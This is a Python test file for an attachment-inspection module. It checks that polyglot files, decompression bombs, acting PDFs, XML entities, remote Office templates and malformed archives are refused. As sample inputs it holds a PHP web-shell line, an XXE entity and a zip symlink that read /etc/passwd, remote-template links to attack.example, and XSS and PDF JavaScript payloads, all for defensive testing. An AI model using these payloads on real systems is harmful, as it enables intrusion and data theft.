"""A file of a good kind is kept only if it is nothing else besides, ends where it ends, and does nothing by itself."""

import io
import struct
import zipfile
import zlib

import pypdf
import pytest
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from domain.errors import InvalidField
from knowledge.attachments.archives import BadArchive, Bomb
from knowledge.attachments.inside import ActsByItself, HasEntities, HoldsFiles, is_remote
from knowledge.attachments.inspection import NotLookedInto, look_into
from knowledge.attachments.kinds import HasMacros, kind_of
from knowledge.attachments.pictures import DamagedPicture, TwoKinds
from tests.attachments import files
from tests.attachments.files import JPEG, ODT_TYPE, PNG, archive, office, pdf

ANY_ZIP = archive({"payload.html": b"<script>alert(1)</script>"})


def look(content: bytes) -> None:
    file = io.BytesIO(content)
    look_into(file, kind_of(file))


def refusal_of(content: bytes) -> type[InvalidField] | None:
    try:
        look(content)
    except InvalidField as refusal:
        return type(refusal) if refusal.field == "file" else None
    return None


def word_with(**parts: bytes) -> bytes:
    """Write an Office file with other parts; `__` parts folders, `___` is a dot."""
    return archive(office() | {name.replace("___", ".").replace("__", "/"): body for name, body in parts.items()})


def relation(kind: str, target: str) -> bytes:
    space = "http://schemas.openxmlformats.org/package/2006/relationships"
    return (
        f'<Relationships xmlns="{space}"><Relationship Id="r1" Type="http://x/{kind}" Target="{target}"'
        ' TargetMode="External"/></Relationships>'
    ).encode()


def chunk(name: bytes, body: bytes) -> bytes:
    return struct.pack(">L", len(body)) + name + body + struct.pack(">L", zlib.crc32(name + body))


def png(*chunks: bytes, width: int = 8) -> bytes:
    size = struct.pack(">LLBBBBB", width, 8, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", size) + b"".join(chunks) + chunk(b"IEND", b"")


def comment(text: bytes) -> bytes:
    """Write a JPEG with a comment."""
    return JPEG[:2] + b"\xff\xfe" + struct.pack(">H", len(text) + 2) + text + JPEG[2:]


def pdf_with(**catalogue: object) -> bytes:
    """Write a PDF whose objects are packed, so that no word of its catalogue stands in plain sight."""
    writer = pypdf.PdfWriter(clone_from=io.BytesIO(pdf("one")))
    for name, value in catalogue.items():
        writer.root_object[NameObject(f"/{name}")] = value
    plain = io.BytesIO()
    writer.write(plain)
    return packed(plain.getvalue())


def packed(plain: bytes) -> bytes:
    """Put every object of a PDF into one that is compressed (ISO 32000-2 §7.5.7)."""
    reader = pypdf.PdfReader(io.BytesIO(plain))
    bodies = []
    for number in sorted(reader.xref[0]):
        found = io.BytesIO()
        one = reader.get_object(pypdf.generic.IndirectObject(number, 0, reader))
        assert one is not None
        one.write_to_stream(found)
        bodies.append((number, found.getvalue()))
    inner = {number: body for number, body in bodies if b"stream" not in body}
    outer = {number: body for number, body in bodies if number not in inner}
    places, joined = [], b""
    for number, body in inner.items():
        places.append(f"{number} {len(joined)}")
        joined += body + b" "
    head = " ".join(places).encode() + b" "
    squeezed = zlib.compress(head + joined)
    keeper = max([*inner, *outer]) + 1
    outer[keeper] = (
        b"<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
        % (len(inner), len(head), len(squeezed))
        + squeezed
        + b"\nendstream"
    )
    return with_packed_references(outer, {number: (keeper, place) for place, number in enumerate(inner)}, reader)


def with_packed_references(
    outer: dict[int, bytes], inner: dict[int, tuple[int, int]], reader: pypdf.PdfReader
) -> bytes:
    written, rows = b"%PDF-1.5\n", {0: (0, 0, 65_535)}
    for number, body in sorted(outer.items()):
        rows[number] = (1, len(written), 0)
        written += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    rows |= {number: (2, keeper, place) for number, (keeper, place) in inner.items()}
    last = max(rows) + 1
    rows[last] = (1, len(written), 0)
    table = zlib.compress(b"".join(struct.pack(">BLH", *rows.get(number, (0, 0, 0))) for number in range(last + 1)))
    root = reader.trailer.raw_get("/Root").idnum
    return written + (
        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root %d 0 R /Filter /FlateDecode /Length %d >>\nstream\n"
        % (last, last + 1, root, len(table))
        + table
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % rows[last][1]
    )


def action(kind: str) -> DictionaryObject:
    return DictionaryObject({NameObject("/S"): NameObject(f"/{kind}"), NameObject("/F"): TextStringObject("x")})


def test_ordinary_files_are_kept():
    for content in (
        pdf("one"),
        pdf("one") + b"\r\n\x00",
        pdf_with(),
        files.locked_pdf(""),
        files.word("one", "two"),
        files.writer("one"),
        archive(office("spreadsheetml.sheet")),
        PNG,
        png(chunk(b"tEXt", b"Title\x00Border"), chunk(b"IDAT", bytes(100))),
        JPEG,
        JPEG + bytes(5_000),
        # Telephones put a second picture behind the first.
        JPEG + JPEG,
        comment(b"Border, 3 < 5"),
    ):
        look(content)


@pytest.mark.parametrize(
    ("content", "refusal"),
    [
        (pdf("one") + ANY_ZIP, TwoKinds),
        (pdf("one") + ANY_ZIP + b"%%EOF", TwoKinds),
        (pdf("one") + b"<script>alert(1)</script>", TwoKinds),
        (pdf("one").replace(b"%PDF-1.4\n", b"%PDF-1.4\n%<script >alert(1)</script>\n"), TwoKinds),
        (pdf("one")[:300], NotLookedInto),
        (JPEG + ANY_ZIP, TwoKinds),
        (JPEG + b"<html><script>alert(1)</script>", TwoKinds),
        (JPEG + b"Rar!\x1a\x07\x00", TwoKinds),
        (comment(b"*/=1;<script>alert(1)</script>"), TwoKinds),
        (comment(b"<?php system($_GET[0]); ?>"), TwoKinds),
        (comment(b"%PDF-1.4"), TwoKinds),
        (JPEG[:-10], DamagedPicture),
        (JPEG[:4] + b"\x00\x04ab" + b"stray" + JPEG[20:], DamagedPicture),
        (JPEG.replace(b"\x08\x00\x08\x00\x08", b"\x08\xff\xff\xff\xff"), Bomb),
        (PNG + b"MZ", TwoKinds),
        (PNG + ANY_ZIP, TwoKinds),
        (png(chunk(b"tEXt", b"Comment\x00" + bytes(2_000) + b"<script>alert(1)</script>")), TwoKinds),
        (png(width=4_000_000_000), Bomb),
        (png()[:-8], DamagedPicture),
        (word_with(a___xml=b"<a>%PDF-1.4</a>"), None),
        (archive({"%PDF-1.4": b"x"} | office()), TwoKinds),
        (archive({"a.txt": b"<script>alert(1)</script>"} | office(), zipfile.ZIP_STORED), TwoKinds),
        (archive(office()) + b"<script>", BadArchive),
    ],
)
def test_what_is_two_things_at_once_or_goes_on_behind_its_end_is_refused(content, refusal):
    assert refusal_of(content) is refusal


def test_a_pdf_that_acts_or_holds_files_is_refused_however_that_is_written():
    script = DictionaryObject({NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("x")})
    tree = DictionaryObject({NameObject("/EmbeddedFiles"): DictionaryObject()})
    plain = pdf("one")
    assert b"JavaScript" not in pdf_with(OpenAction=script)
    for content, refusal in (
        (pdf_with(OpenAction=script), ActsByItself),
        (pdf_with(OpenAction=action("Launch")), ActsByItself),
        (pdf_with(AA=DictionaryObject({NameObject("/O"): ArrayObject([action("ImportData")])})), ActsByItself),
        (pdf_with(AcroForm=DictionaryObject({NameObject("/XFA"): ArrayObject()})), ActsByItself),
        (pdf_with(Names=tree), HoldsFiles),
        (plain.replace(b"/Type /Catalog", b"/Type /Catalog /OpenAction << /S /JavaScript >>"), ActsByItself),
        (plain.replace(b"/Type /Catalog", b"/Type /Catalog /OpenAction << /S /L#61un#63h >>"), ActsByItself),
        # No table of the document names this object, but programs that mend one would find it.
        (plain.replace(b"1 0 obj", b"9 0 obj << /S /JavaScript /JS (x) >> endobj 1 0 obj"), ActsByItself),
        (files.locked_pdf("word"), NotLookedInto),
        (pdf_with().replace(b"/XRef", b"/None"), NotLookedInto),
    ):
        assert refusal_of(content) is refusal, content[:600]


@pytest.mark.parametrize(
    ("parts", "refusal"),
    [
        (
            {"word__a___xml": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a/>'},
            HasEntities,
        ),
        ({"word__a___xml": '<!DOCTYPE a [<!ENTITY x "y">]><a/>'.encode("utf-16")}, HasEntities),
        ({"word__a___xml": '<!DOCTYPE a [<!ENTITY x "y">]><a/>'.encode("utf-16-be")}, HasEntities),
        ({"word__a___bin": b"<!DOCTYPE a><a/>"}, HasEntities),
        ({"word__a___xml": b"<!--" + b"-" * 65_520 + b"--><!DOCTYPE a><a/>"}, HasEntities),
        ({"word__a___xml": b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE'}, BadArchive),
        ({"word__a___xml": b"Lo\xa7\x94"}, BadArchive),
        ({"word__embeddings__oleObject1___bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"}, HoldsFiles),
        ({"word__media__image1___png": b"MZ\x90\x00"}, HoldsFiles),
        ({"word__embeddings__a___xlsx": archive(office("spreadsheetml.sheet"))}, None),
        ({"word__embeddings__a___xlsm": archive({"xl/vbaProject.bin": b"x"})}, HasMacros),
        ({"word__embeddings__a___docx": word_with(b___docx=word_with())}, Bomb),
        ({"word__embeddings__a___docx": archive({"../a": b"x"})}, BadArchive),
        ({"word___rels": relation("attachedTemplate", "https://attack.example/a.dotm")}, ActsByItself),
        ({"word___rels": relation("attachedTemplate", "file://attack.example/share/a.dotm")}, ActsByItself),
        ({"word___rels": relation("oleObject", "\\\\attack.example\\share\\a")}, ActsByItself),
        ({"word___rels": relation("attachedTemplate", "file:///C:\\Templates\\Normal.dotm")}, None),
        ({"word___rels": relation("hyperlink", "https://www.un.org/")}, None),
        ({"word___rels": b"<Relationships"}, BadArchive),
    ],
)
def test_what_an_office_file_holds_is_looked_at(parts, refusal):
    assert refusal_of(word_with(**parts)) is refusal


def test_an_odt_that_starts_a_macro_is_refused():
    listener = b'<a xlink:href="vnd.sun.star.script:x.y?language=Basic&amp;location=share"/>'

    assert refusal_of(archive({"mimetype": ODT_TYPE, "content.xml": listener})) is HasMacros


def claiming(content: bytes, name: bytes, *, size: int | None = None, checksum: int | None = None) -> bytes:
    """Let the list of entries claim another size and checksum of an entry."""
    changed = bytearray(content)
    place = changed.rfind(name) - 46
    if size is not None:
        struct.pack_into("<L", changed, place + 24, size)
    if checksum is not None:
        struct.pack_into("<L", changed, place + 16, checksum)
    return bytes(changed)


def test_an_entry_that_unpacks_to_more_than_it_claims_is_refused():
    long = archive(office() | {"word/a.xml": b"<a>" + b"x" * 5_000_000 + b"</a>"})
    lying = claiming(long, b"word/a.xml", size=3, checksum=zlib.crc32(b"<a>"))
    with zipfile.ZipFile(io.BytesIO(lying)) as opened:
        assert opened.read("word/a.xml") == b"<a>", "The library is taken in."

    assert refusal_of(long) is Bomb
    assert refusal_of(lying) is BadArchive


def test_entries_that_share_bytes_have_two_names_or_point_elsewhere_are_refused():
    whole = archive(office() | {"word/a.xml": b"<a/>", "word/b.xml": b"<b/>"})
    second = bytearray(whole)
    place = second.rfind(b"word/b.xml") - 46
    first = second.rfind(b"word/a.xml") - 46
    second[place + 42 : place + 46] = second[first + 42 : first + 46]
    renamed = whole.replace(b"word/a.xml", b"word/c.xml", 1)
    link = zipfile.ZipInfo("word/link.xml")
    link.external_attr = 0o120777 << 16
    file = io.BytesIO(archive(office()))
    with zipfile.ZipFile(file, "a") as opened:
        opened.writestr(link, "/etc/passwd")

    for content in (
        bytes(second),
        renamed,
        file.getvalue(),
        archive(office() | {"MAIN.xml": b"<x/>"}),
        b"PK\x03\x04" + whole,
    ):
        assert refusal_of(content) is BadArchive


def test_an_archive_in_which_any_byte_is_turned_is_kept_or_refused_and_never_fails():
    whole = files.word("one", "two")
    for place in range(0, len(whole), 997):
        refusal_of(whole[:place] + bytes((whole[place] ^ 0xFF,)) + whole[place + 1 :])


@pytest.mark.parametrize(
    ("target", "expected"),
    [
        ("https://x.example/a", True),
        ("\\\\x\\a", True),
        ("//x/a", True),
        ("file://x/a", True),
        ("file:////x/a", True),
        ("mhtml:https://x", True),
        ("http://[", True),
        ("a/b.dotm", False),
        ("C:\\a.dotm", False),
        ("file:///C:/a.dotm", False),
    ],
)
def test_what_another_machine_would_be_asked_for_is_told(target, expected):
    assert is_remote(target) is expected
